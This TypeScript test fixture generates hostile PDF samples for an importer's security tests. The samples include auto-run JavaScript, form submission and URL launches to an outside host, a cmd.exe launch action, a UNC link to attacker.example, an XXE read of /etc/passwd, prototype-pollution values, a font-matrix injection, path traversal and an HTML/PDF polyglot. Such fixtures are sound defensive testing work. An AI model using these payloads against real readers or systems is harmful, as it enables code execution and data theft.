import { linesAt, makePdf } from '../../../src/core/import/testing/makePdf';
import { type Charge, escapedName, type HostileFile, type Maker, makeFiles } from './hostileFile';

const content = linesAt(72, 700, ['The keeper wrote: press here.']);
const page = { content };
/** With one page, further objects have the numbers from 9 on. */
const firstFurther = 9;

const code = ({ script, far }: Charge) =>
  `(${script.replace(/[()]/g, '\\$&')}; app.alert\\(1\\); app.launchURL\\("${far}/js"\\); this.submitForm\\("${far}/form"\\);)`;
const image = ({ script }: Charge) => `(<img src=x: onerror=${script.replace(/[()]/g, '\\$&')}>)`;
const annotation = (entries: string) => `/Annots [<< /Type /Annot /Rect [72 690 300 715] ${entries} >>]`;
const action = (entries: string) => annotation(`/Subtype /Link /A << ${entries} >>`);
const stream = (entries: string, data: string) =>
  `<< ${entries} /Length ${data.length} >>\nstream\n${data}\nendstream`;

const makers: Readonly<Record<string, Maker>> = {
  'script on opening.pdf': (charge) =>
    makePdf({
      pages: [page],
      catalogue: `/OpenAction << /S /JavaScript /JS ${code(charge)} >> /AA << /WC << /S /JavaScript /JS ${code(charge)} >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${code(charge)} >>] >> >>`,
    }),
  'script on a page.pdf': (charge) =>
    makePdf({ pages: [{ content, more: `/AA << /O << /S /JavaScript /JS ${code(charge)} >> >>` }] }),
  'link to a script.pdf': ({ script }) =>
    makePdf({
      pages: [
        {
          content,
          more: action(`/S /URI /URI (javascript:${script.replace(/[()]/g, '\\$&')})`),
        },
      ],
    }),
  'link that launches.pdf': () =>
    makePdf({
      pages: [{ content, more: action('/S /Launch /F (/bin/true) /Win << /F (cmd.exe) /P (/c true) >>') }],
    }),
  'link to a share.pdf': () =>
    makePdf({
      pages: [{ content, more: action('/S /GoToR /F (\\\\\\\\attacker.example\\\\a.pdf) /D [0 /Fit]') }],
    }),
  'form that is sent.pdf': ({ far }) =>
    makePdf({
      pages: [{ content, more: action(`/S /SubmitForm /F << /FS /URL /F (${far}/form) >> /Flags 4`) }],
    }),
  'fields with scripts.pdf': (charge) =>
    makePdf({
      pages: [
        {
          content,
          more: annotation(
            `/Subtype /Widget /FT /Tx /T (__proto__) /V ${image(charge)} /TU ${image(charge)} /AA << /F << /S /JavaScript /JS ${code(charge)} >> /K << /S /JavaScript /JS ${code(charge)} >> >>`,
          ),
        },
      ],
      catalogue: '/AcroForm << /Fields [] /NeedAppearances true >>',
    }),
  'form in XFA.pdf': ({ script, far }) => {
    const form = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><event activity="initialize"><script contentType="application/x-javascript">${script}</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:${script}">press here</a><img src="${far}/x.png" onerror="${script}"/></body></exData></value></draw></subform></template></xdp:xdp>`;
    return makePdf({
      pages: [page],
      catalogue: `/AcroForm << /XFA ${firstFurther} 0 R >> /NeedsRendering true`,
      objects: [stream('', form)],
    });
  },
  'comments of markup.pdf': (charge) =>
    makePdf({
      pages: [
        {
          content,
          more: annotation(
            `/Subtype /Text /T ${image(charge)} /Contents ${image(charge)} /NM (__proto__) /RC (<body xmlns="http://www.w3.org/1999/xhtml"><p onclick="1"><script>1</script><a href="javascript:1">press here</a></p></body>)`,
          ),
        },
      ],
    }),
  'names of markup.pdf': (charge) =>
    makePdf({
      pages: [page],
      information: `/Title ${image(charge)} /Author ${image(charge)} /Producer (__proto__) /__proto__ (polluted)`,
      catalogue: `/PageLabels << /Nums [0 << /P ${image(charge)} >>] >> /Outlines << /First ${firstFurther} 0 R /Last ${firstFurther} 0 R /Count 1 >>`,
      objects: [`<< /Title ${image(charge)} /Dest [7 0 R /Fit] >>`],
    }),
  'metadata with an outside entity.pdf': (charge) =>
    makePdf({
      pages: [page],
      catalogue: `/Metadata ${firstFurther} 0 R`,
      objects: [
        stream(
          '/Type /Metadata /Subtype /XML',
          `<?xpacket begin=""?><!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li>&out;${charge.script}</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>`,
        ),
      ],
    }),
  'font matrix of code.pdf': (charge) =>
    makePdf({
      pages: [
        {
          content: 'BT /FX 12 Tf 72 700 Td (press here) Tj ET',
          more: `/Resources << /Font << /FX ${firstFurther} 0 R >> >>`,
        },
      ],
      objects: [
        `<< /Type /Font /Subtype /Type1 /BaseFont /Made /FirstChar 32 /LastChar 33 /Widths [500 500] /FontMatrix [0.001 0 0 0.001 0 (0\\); ${charge.script.replace(/[()]/g, '\\$&')}; //)] /FontDescriptor ${firstFurther + 1} 0 R >>`,
        `<< /Type /FontDescriptor /FontName /Made /Flags 4 /FontFile ${firstFurther + 2} 0 R >>`,
        stream('/Length1 40 /Length2 0 /Length3 0', '%!PS-AdobeFont-1.0: Made\n/FontName /Made def'),
      ],
    }),
  'files inside.pdf': () =>
    makePdf({
      pages: [page],
      catalogue: `/Names << /EmbeddedFiles << /Names [(a) ${firstFurther} 0 R] >> >>`,
      objects: [
        `<< /Type /Filespec /F (../../${escapedName}.html) /UF (../../${escapedName}.html) /EF << /F ${firstFurther + 1} 0 R >> >>`,
        stream('/Type /EmbeddedFile /Subtype /text#2Fhtml', '<script>1</script>'),
      ],
    }),
  'pages in a circle.pdf': () =>
    Buffer.from(
      Buffer.from(makePdf({ pages: [page] }))
        .toString('latin1')
        .replace('/Kids [7 0 R]', '/Kids [2 0 R]'),
      'latin1',
    ),
  'form in a circle.pdf': () =>
    makePdf({
      pages: [
        {
          content: `${content} /Me Do`,
          more: `/Resources << /Font << /F1 3 0 R >> /XObject << /Me ${firstFurther} 0 R >> >>`,
        },
      ],
      objects: [
        stream(
          `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /Me ${firstFurther} 0 R >> >>`,
          '/Me Do',
        ),
      ],
    }),
  'page and document at once.pdf': (charge) =>
    Buffer.concat([
      Buffer.from(`<script>${charge.script}</script><!--\n`),
      makePdf({ pages: [page] }),
      Buffer.from(`--><img src=x: onerror=${charge.script}>`),
    ]),
};

/** PDF files, numbered from 301. */
export const pdfFiles = (): HostileFile[] => makeFiles(makers, 301);
